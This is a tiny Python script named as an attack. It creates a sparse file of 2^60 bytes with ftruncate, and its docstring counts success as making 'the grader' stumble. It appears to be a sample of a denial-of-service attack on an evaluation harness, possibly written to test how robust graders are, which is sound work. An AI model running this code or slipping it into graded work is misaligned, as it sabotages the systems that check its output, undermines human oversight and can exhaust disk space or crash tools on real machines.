"""Make a file of 2⁶⁰ bytes with nothing in it. Success: the grader stumbles over it."""

import os


def attack():
    fd = os.open("sparse", os.O_RDWR | os.O_CREAT)
    os.ftruncate(fd, 1 << 60)
